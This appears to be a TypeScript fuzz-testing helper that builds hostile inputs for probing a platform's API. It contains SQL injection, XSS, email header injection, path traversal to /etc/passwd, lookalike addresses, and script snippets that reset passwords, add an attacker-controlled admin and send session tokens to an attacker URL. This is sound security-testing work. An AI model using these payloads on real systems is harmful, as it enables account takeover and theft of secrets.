import fc from 'fast-check'
import { stolen } from './attacks.ts'
import type { World } from './world.ts'

/** Addresses, names and passwords that an attacker gives to accounts, to sign in with them later. */
export const ownAddresses = ['evil1@evil.test', 'evil2@evil.test', 'evil3@evil.test']

export interface HostileValues {
  readonly id: fc.Arbitrary<unknown>
  readonly text: (name: string) => fc.Arbitrary<unknown>
  readonly segment: fc.Arbitrary<string>
  /** Names of records that exist. */
  readonly known: fc.Arbitrary<string>
  readonly code: fc.Arbitrary<string>
}

/** Values that hurt where they are taken for more than a value. `url`: of the attacker's server. */
export function hostileValues(
  { instance: { root }, user, wideRole, roleName, app, services, resetTemplate }: World,
  url: string,
): HostileValues {
  const { host, port } = new URL(url)
  const ids = [...Object.values(services), root.id, user.id, wideRole, app.id, resetTemplate]
  const names = [
    'link',
    'confirm_code',
    'first_name',
    'tenant',
    'canary.part',
    'session.token',
    'user.id',
    'app.api_key',
  ]
  const places = [
    'secret',
    'archive',
    'archive/secret',
    'trusted/script.js',
    'shown',
    'own',
    '../archive',
    'vault.sqlite',
    '/etc/passwd',
    '',
  ]
  const asks = (verb: string, path: string, body: string) => `await platform.api.${verb}('${path}', ${body})`
  const told = `await platform.api.get('${url}/told?' + JSON.stringify([event, platform.session, '{canary.pin}', '{session.token}']))`
  const code = [
    `${asks('patch', `system/user/${user.id}`, `{ password: '${stolen}' }`)}\n${told}`,
    `${asks('post', 'system/admin', `{ resource: [{ email: '${ownAddresses[0]}', password: '${stolen}' }] }`)}\n${told}`,
    `const seen = (await platform.api.get('vault/_table/item')).content\n${told}\nif (event.response) event.response.content = seen`,
    `return '{canary.pin} {session.token} {user.email}'`,
  ]
  const calls = [
    `/api/v2/system/role/${wideRole}?force=true`,
    '/api/v2/vault/_table/item',
    '/api/v2/archive/secret/plan.txt',
    `${url}/hook?c={confirm_code}&t={session.token}&p={canary.pin}`,
    url,
  ]
  const breaks = [
    'id>0) or (id>0',
    "' or 1=1 --",
    '"><img src=x onerror=alert(1)>',
    'x\r\nBcc: evil1@evil.test',
    "'; return 1; '",
  ]
  const people = [
    ...ownAddresses,
    root.email,
    user.email,
    root.email.toUpperCase(),
    root.email.replace('o', 'o\u200b'),
    'ｒoot@example.test',
  ]
  const fills = ['{canary.pin}', '{session.token}', '{confirm_code}', '{link}', '{user.email}']
  const events = [
    'vault._table.item.get',
    'system.role.get',
    'user.session.post',
    'db._schema.get',
    'files.get.post_process',
  ]
  const tables = ['item', 'loot', 'user', '_table', '*', 'vault', 'db', 'files', 'system', 'user/*', '_table/item']
  const any = [
    ...names,
    ...places,
    ...calls,
    ...breaks,
    ...people,
    ...fills,
    ...events,
    ...tables,
    'evil1',
    'evil2',
    'GET',
    'DELETE',
  ]
  const existing = [...Object.keys(services), roleName, 'admin', root.email, user.email]
  /** By parts of names of members, first match first. */
  const byName: readonly (readonly [RegExp, readonly unknown[]])[] = [
    [/password/, [stolen]],
    [/e?mail|^(?:to|cc|bcc)$/, people],
    [/content|body|script|code/, [...code, ...fills, ...calls]],
    [/url|uri|endpoint|address|link|wsdl|location/, calls],
    [/^host$|server/, [host, new URL(url).hostname]],
    [/^port$/, [Number(port)]],
    [/path|folder|container|database|file/, places],
    [/event/, events],
    [/table|component|resource/, tables],
    [/method|verb/, ['GET', 'POST', 'PATCH', 'DELETE']],
    // Configuration names records instead of their ids.
    [/^type$/, ['nodejs', 'instance', 'instance.each_user', 'instance.service', 'local_file']],
    [/^status$/, ['approved', 'published', 'expired']],
    [/^period$/, ['minute', 'day']],
    [/payload/, ['{}', `{"password":"${stolen}"}`, `{"role_id":${wideRole}}`]],
    [/^(?:role|app|service|user|owner|storage_service|author)$/, [...existing, 'evil1', ...ids]],
    [/^name$/, ['evil1', 'evil2', 'evil3', ...names]],
    [/value|filter/, [...breaks, ...fills, ...calls, ...people]],
  ]
  return {
    id: fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...ids) }, fc.integer({ min: 1, max: 30 })),
    text(name) {
      const known = byName.find(([pattern]) => pattern.test(name))?.[1]
      const all = fc.constantFrom<unknown>(...any)
      return known === undefined ? all : fc.oneof({ weight: 12, arbitrary: fc.constantFrom(...known) }, all)
    },
    segment: fc.oneof(
      fc.constantFrom(...ids, 1, 2).map(String),
      fc
        .constantFrom(...names, ...tables, ...events, ...places.filter((place) => place !== ''), 'evil1', 'evil2')
        .map((text) => text.split('/').map(encodeURIComponent).join('/')),
    ),
    known: fc.constantFrom(...existing),
    code: fc.constantFrom(...code),
  }
}
